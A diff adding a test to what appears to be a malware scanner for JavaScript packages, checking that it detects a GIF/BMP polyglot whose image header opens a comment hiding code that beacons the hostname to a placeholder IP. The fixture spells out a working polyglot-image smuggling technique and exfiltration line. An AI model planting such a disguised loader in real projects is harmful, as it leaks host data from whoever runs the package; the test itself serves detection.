@@ -1124,3 +1124,19 @@ def test_sent_request_headers_are_named_as_such_where_they_are_sent():
     # A secret file sent the same way keeps its own words.
     sent = [f for f in run({"index.js": STEAL_NPMRC}) if f.rule == "code/secret-exfiltration"]
     assert sent and "the content of a secret file" in sent[0].message
+
+
+def test_an_image_that_is_also_javascript_is_read_as_the_code_node_would_run():
+    # (blind set 48's polyglot-asset-require: `require('./assets/spinner.gif')`, which bundlers turn into a URL, makes
+    # Node run the GIF as CommonJS; its header `GIF89a/*` opens a comment and the code follows; a BMP's NUL bytes sit
+    # inside that comment)
+    stage = "*/=1;require('http').get('http://203.0.113.7/g?h=' + require('os').hostname(), () => {});/*"
+    found = run({"index.js": "module.exports = { spinner: require('./assets/spinner.gif') };\n",
+                 "assets/spinner.gif": "GIF89a/*\x10\x00\x10\x00\x80\x00\x00" + stage + "\x00\x00*/",
+                 "assets/mask.bmp": "BM/*\x00\x00\x00\x00" + stage + "\x00\xff*/"})
+    assert {(f.rule, f.file) for f in found if f.severity >= Severity.HIGH} >= {
+        ("code/host-beacon", "assets/spinner.gif"), ("code/host-beacon", "assets/mask.bmp")}
+    # A real image (its header runs into the width, not a comment) is not read as code.
+    plain = run({"index.js": "module.exports = require('./assets/spinner.gif');\n",
+                 "assets/spinner.gif": "GIF89a\x10\x00\x10\x00\x80\x00\x00" + stage})
+    assert not [f for f in plain if f.file == "assets/spinner.gif"]
